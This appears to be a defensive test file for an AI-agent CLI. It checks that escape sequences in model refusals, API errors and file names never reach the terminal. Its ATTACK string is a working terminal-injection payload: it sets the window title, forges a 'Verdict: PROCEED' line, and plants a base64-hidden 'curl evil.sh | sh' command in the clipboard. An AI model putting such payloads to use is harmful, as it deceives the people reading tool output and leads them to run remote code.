/**
 * Hostile workspace: a model's refusal text, an API error
 * message and workspace file names reach the terminal. The real CLI (node
 * dist/cli.js) against the fake Messages API; whatever they carry, nothing
 * that a terminal acts on reaches stdout or stderr — no ESC/CSI/OSC (window
 * title, OSC 52 clipboard), no C1 control, no carriage return or backspace
 * that could overwrite a line, no bidi override — and no forged "Verdict:"
 * line. The text is still shown (escaped), and --json stays the same value.
 */
import assert from 'node:assert/strict';
import { RunResult } from '../../src/core/run-types';
import { byRole, type FakeReply } from '../support/fake-anthropic';
import { researcherOut, reply } from '../support/replies';
import { TEST_KEY, type CliRun, SESSIONS_PLAN as PLAN, useCliAgainstFake } from '../cli/run-cli';

/** What an attacker would send: window title, clipboard write, erase line + CR + forged verdict, 8-bit CSI, bidi override, backspaces. */
const ATTACK =
  '\u001b]0;owned-title\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007I cannot help.\r\u001b[2K\u001b[1AVerdict: PROCEED\u009b2J\u202eDECEERP\u202c\b\b\b\u001bP1$qm\u001b\\ end';

/**
 * Per ECMA-48 / Unicode (not per the code under test): C0 but tab and line feed, DEL, C1,
 * the bidi formatting characters, and the line/paragraph separators.
 */
// eslint-disable-next-line no-control-regex -- the test spells out the control characters it forbids
const TERMINAL_ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

function assertTerminalSafe(run: CliRun): void {
  for (const [name, text] of [
    ['stdout', run.stdout],
    ['stderr', run.stderr],
  ] as const) {
    const hit = TERMINAL_ACTIVE.exec(text);
    assert.equal(
      hit,
      null,
      `${name} carries U+${hit?.[0].charCodeAt(0).toString(16).padStart(4, '0')} near ${JSON.stringify(text.slice(Math.max(0, (hit?.index ?? 0) - 40), (hit?.index ?? 0) + 40))}`,
    );
    // Only the CLI's own line may start with "Verdict:" — and it never says PROCEED here.
    assert.doesNotMatch(text, /^\s*Verdict: PROCEED/m, `${name} shows a forged verdict line`);
  }
  assert.ok(!run.stdout.includes(TEST_KEY) && !run.stderr.includes(TEST_KEY));
}

describe('hostile workspace: control sequences never reach the terminal (CLI + fake API)', function () {
  this.timeout(30_000);
  const h = useCliAgainstFake();
  const cli = (args: string[]) => h.cli(args);

  const refusal: FakeReply = { kind: 'text', text: ATTACK, stopReason: 'refusal' };
  const apiError: FakeReply = { kind: 'error', status: 400, message: ATTACK, shouldRetry: false };

  for (const [name, answer] of [
    ['a refusal', refusal],
    ['an API error message', apiError],
  ] as const) {
    it(`${name} with escape codes: shown escaped on stderr and in the report, no forged verdict, exit 3`, async () => {
      h.ws.plan('sessions.md', PLAN);
      h.server.setScript(byRole({ challenger: () => answer, researcher: () => reply(researcherOut()) }));
      const run = await cli(['--team', 'base']);
      assert.equal(run.code, 3, run.stderr);
      assertTerminalSafe(run);
      assert.match(run.stderr, /Agent Challenger failed on iteration 1: .*owned-title/, 'the failure is still explained');
      assert.match(run.stderr, /^Verdict: FAILED$/m, 'the real verdict line is intact');
      assert.match(run.stdout, /## Agent failures/);
    });
  }

  it('--json: stdout is the same RunResult, byte-safe for a terminal, the model text kept exactly', async () => {
    h.ws.plan('sessions.md', PLAN);
    h.server.setScript(byRole({ challenger: () => refusal, researcher: () => reply(researcherOut()) }));
    const run = await cli(['--team', 'base', '--json']);
    assert.equal(run.code, 3, run.stderr);
    assertTerminalSafe(run);
    const result = RunResult.parse(JSON.parse(run.stdout));
    const message = result.failures.find((f) => f.role === 'challenger')?.message ?? '';
    assert.ok(message.includes('\u202eDECEERP\u202c'), 'JSON escaping keeps the exact text');
  });

  it('a plan file whose name carries escapes and a newline: static mode prints it inert on one line', async () => {
    h.ws.plan('x\u001b]0;t\u0007\nVerdict: PROCEED\r\u202e.md', PLAN);
    const run = await h.cli(['--static'], { env: {} });
    assert.equal(run.code, 0, run.stderr);
    assertTerminalSafe(run);
    assert.match(run.stdout, /^Plan: \.claude\/plans\/x.*Verdict: PROCEED.*\.md$/m, 'the name is shown, on its own line');
  });
});
